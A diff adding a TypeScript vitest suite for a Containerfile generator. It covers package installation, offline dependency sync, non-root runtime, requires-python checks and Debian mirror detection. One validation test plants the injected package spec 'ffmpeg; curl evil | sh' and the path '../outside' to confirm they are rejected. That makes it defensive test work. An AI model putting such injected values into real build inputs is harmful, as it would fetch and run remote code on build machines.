@@ -1,0 +1,128 @@
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { ForgeError } from '../../tools/src/diagnostics';
+import { containerfileData, renderContainerfile, satisfiesRequiresPython, type BaseRecord } from '../../tools/src/forge';
+import { debianArchiveUri } from '../../tools/src/forge/mirror';
+import type { SynthesisManifest } from '../../tools/src/synthesis/manifest';
+import { WORKSPACE } from '../support/codex-fixture';
+
+const manifest = JSON.parse(fs.readFileSync(path.join(WORKSPACE, 'forge/synthesis.lock.json'), 'utf8')) as SynthesisManifest;
+const scrollText = fs.readFileSync(path.join(WORKSPACE, 'codex/lychd.toml'), 'utf8');
+const base: BaseRecord = { kind: 'debian', ref: 'bookworm', digest: `sha256:${'a'.repeat(64)}`, python: '3.11' };
+const inputs = { manifest, base, python: '3.11', port: 8000, scrollText };
+const work = fs.mkdtempSync(path.join(os.tmpdir(), 'lychd-containerfile-'));
+afterAll(() => fs.rmSync(work, { recursive: true, force: true }));
+
+function forgeError(fn: () => unknown): ForgeError {
+  try {
+    fn();
+  } catch (e) {
+    expect(e).toBeInstanceOf(ForgeError);
+    return e as ForgeError;
+  }
+  throw new Error('expected a ForgeError');
+}
+
+describe('the Containerfile of the example', () => {
+  const text = renderContainerfile(WORKSPACE, containerfileData(inputs));
+
+  it('installs the sorted system packages with the cleanup, in one RUN', () => {
+    expect(text).toMatch(/apt-get install -y --no-install-recommends \\\n {6}ffmpeg \\\n {6}sox \\\n {6}tesseract-ocr \\\n {6}tesseract-ocr-eng \\\n && apt-get clean/);
+    expect(text).toContain('rm -rf /var/lib/apt/lists/* /var/log/apt/*');
+  });
+
+  it('syncs the dependencies before it copies any source, offline with the mounted uv', () => {
+    const deps = text.indexOf('uv sync --no-install-workspace');
+    const firstSource = text.indexOf('COPY app/ /app/');
+    expect(deps).toBeGreaterThan(0);
+    expect(firstSource).toBeGreaterThan(deps);
+    expect(text).toContain('UV_FROZEN=1 UV_OFFLINE=1');
+    expect(text).toContain('--mount=type=bind,source=.forge/uv,target=/usr/local/bin/uv');
+    expect(text.indexOf('COPY deps/ /app/')).toBeLessThan(deps);
+    for (const c of manifest.components) expect(text).toContain(`#   ${c.name} (${c.path})\n`);
+  });
+
+  it('seals /app in the builder and runs as a user in the runner', () => {
+    const builder = text.slice(text.indexOf('AS builder'), text.indexOf('AS runner'));
+    const runner = text.slice(text.indexOf('AS runner'));
+    expect(builder).toContain('chmod -R a-w /app');
+    expect(runner).not.toContain('chmod -R');
+    expect(runner).toContain('RUN chmod a-w /app /app/.venv /app/core /app/extensions /app/extensions/atelier');
+    expect(runner).toContain('USER 10001:10001');
+    expect(runner).toContain('PYTHONDONTWRITEBYTECODE=1');
+    expect(runner).toContain('ENTRYPOINT ["/app/.venv/bin/lychd"]');
+  });
+
+  it('renders the same bytes every time, with LF and no absolute workspace path', () => {
+    expect(renderContainerfile(WORKSPACE, containerfileData(inputs))).toBe(text);
+    expect(text).not.toContain('\r');
+    expect(text).not.toContain(WORKSPACE);
+  });
+
+  it('builds FROM a pinned image when [forge.base] names one', () => {
+    const ref = `docker.io/library/python:3.11-slim@sha256:${'b'.repeat(64)}`;
+    const pinned = renderContainerfile(WORKSPACE, containerfileData({ ...inputs, base: { kind: 'image', ref, digest: `sha256:${'b'.repeat(64)}` } }));
+    expect(pinned).toContain(`FROM ${ref} AS base`);
+    expect(pinned).not.toContain('base.tar');
+  });
+});
+
+describe('what never reaches the Containerfile', () => {
+  it('rejects a system package or a path that is not plain data, naming each', () => {
+    const bad = structuredClone(manifest);
+    bad.system[0]!.spec = 'ffmpeg; curl evil | sh';
+    bad.components[1]!.path = '../outside';
+    const e = forgeError(() => containerfileData({ ...inputs, manifest: bad }));
+    expect(e.diagnostics.map((d) => d.field).sort()).toEqual(['components[1].path', 'system[0].spec']);
+    expect(e.message).toContain('forge/synthesis.lock.json: error: "ffmpeg; curl evil | sh" is not a Debian package name');
+  });
+
+  it('says which Pythons disagree with forge.python, and where it is set', () => {
+    const line = scrollText.split('\n').findIndex((l) => l.startsWith('python = ')) + 1;
+    const e = forgeError(() => containerfileData({ ...inputs, python: '3.12' }));
+    expect(e.diagnostics).toEqual([expect.objectContaining({ file: 'codex/lychd.toml', line, field: 'forge.python' })]);
+    expect(e.message).toContain('"3.12" disagrees: the base (debian bookworm) has Python 3.11');
+    expect(e.message).toContain('set python = "3.11"');
+    const lock = structuredClone(manifest);
+    lock.python.requiresPython = '>=3.12';
+    const both = forgeError(() => containerfileData({ ...inputs, manifest: lock }));
+    expect(both.message).toContain('has requires-python ">=3.12"');
+  });
+
+  it('reports a broken template as a ForgeError naming it', () => {
+    fs.mkdirSync(path.join(work, 'forge/templates'), { recursive: true });
+    fs.writeFileSync(path.join(work, 'forge/templates/Containerfile.njk'), 'FROM {{ nothing.here }}\n');
+    expect(forgeError(() => renderContainerfile(work, containerfileData(inputs))).message).toContain('forge/templates/Containerfile.njk');
+  });
+});
+
+describe('requires-python', () => {
+  it.each([
+    ['3.11', '>=3.11', true],
+    ['3.11', '>=3.12', false],
+    ['3.12', '>=3.10,<3.13', true],
+    ['3.13', '>=3.10,<3.13', false],
+    ['3.11', '~=3.10', true],
+    ['3.11', '==3.11.*', true],
+    ['3.12', '==3.11.*', false],
+    ['3.11', '!=3.11.*', false],
+    ['3.11', 'nonsense', false],
+  ])('%s against %s', (python, spec, ok) => expect(satisfiesRequiresPython(python, spec)).toBe(ok));
+});
+
+describe("the machine's Debian archive", () => {
+  it('is the main archive of the one-line or deb822 sources, never security or a third party', () => {
+    const etc = path.join(work, 'apt');
+    fs.mkdirSync(path.join(etc, 'sources.list.d'), { recursive: true });
+    fs.writeFileSync(path.join(etc, 'sources.list'), '# deb http://old.example/debian bookworm main\ndeb https://repo.example/node bookworm main\n');
+    fs.writeFileSync(
+      path.join(etc, 'sources.list.d/debian.sources'),
+      'Types: deb\nURIs: http://security.example/debian-security\nSuites: bookworm-security\n\nTypes: deb\nURIs: http://mirror.example/debian/\nSuites: bookworm\n',
+    );
+    expect(debianArchiveUri({}, etc)).toBe('http://mirror.example/debian');
+    expect(debianArchiveUri({ LYCHD_DEBIAN_MIRROR: 'http://other.example/debian/' }, etc)).toBe('http://other.example/debian');
+    expect(debianArchiveUri({}, path.join(work, 'none'))).toBeUndefined();
+  });
+});
